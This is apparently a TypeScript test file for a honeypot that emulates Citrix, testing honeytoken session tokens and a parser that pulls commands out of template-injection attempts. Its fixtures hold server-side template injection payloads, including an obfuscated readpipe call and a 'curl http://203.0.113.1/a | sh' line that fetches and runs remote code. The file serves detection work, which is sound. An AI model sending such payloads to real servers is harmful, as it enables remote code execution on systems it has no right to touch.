import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { Identity } from '../../../src/config/identity.ts'
import { SessionTokens } from '../../../src/emulators/citrix/session-tokens.ts'
import { commandIn } from '../../../src/emulators/citrix/template-command.ts'
import { HoneytokenMint } from '../../../src/host/honeytokens/mint.ts'
import { MemoryState } from '../../harness.ts'

describe('a session token', () => {
  const tokensOf = (seed: number): SessionTokens =>
    new SessionTokens(HoneytokenMint.of({ identity: new Identity(Buffer.alloc(32, seed)), state: new MemoryState() }), 'plain')
  const tokens = tokensOf(7)

  it('says whom it was leaked to and when', () => {
    const token = tokens.mint('2001:db8::7', 5000)
    expect(tokens.read(token)).toMatchObject({ mintedFor: '2001:db8::7', mintedAt: 5000 })
    expect(tokens.read(`${token.slice(0, -1)}3`)).toBe(undefined)
  })

  it('of another install is none', () => {
    expect(tokens.read(tokensOf(8).mint('192.0.2.1'))).toBe(undefined)
    fc.assert(fc.property(fc.string(), (text) => tokens.read(text) === undefined))
  })
})

describe('the command of a template', () => {
  const templates: [string, string | undefined][] = [
    ["[% template.new({'BLOCK'='print `id`'}) %]", 'id'],
    ["[% template.new('BLOCK' = 'print `uname -a`') %]", 'uname -a'],
    ["[%t=template.new({'BLOCK'='print readpipe(chr(47) . chr(98).chr(105))'})%][%t%]", '/bi'],
    ["[% template.new({'BLOCK'='exec(\"curl http://203.0.113.1/a | sh\");'}) %]", 'curl http://203.0.113.1/a | sh'],
    ["[% template.new({'BLOCK'='system(\\'whoami\\')'}) %]", 'whoami'],
    ['[% 7*7 %]', undefined],
  ]
  it.each(templates)('%s', (template, command) => expect(commandIn(template)).toBe(command))

  it('is found in text of any shape without an error', () => {
    fc.assert(fc.property(fc.string({ maxLength: 300 }), (text) => ['string', 'undefined'].includes(typeof commandIn(text))))
  })
})
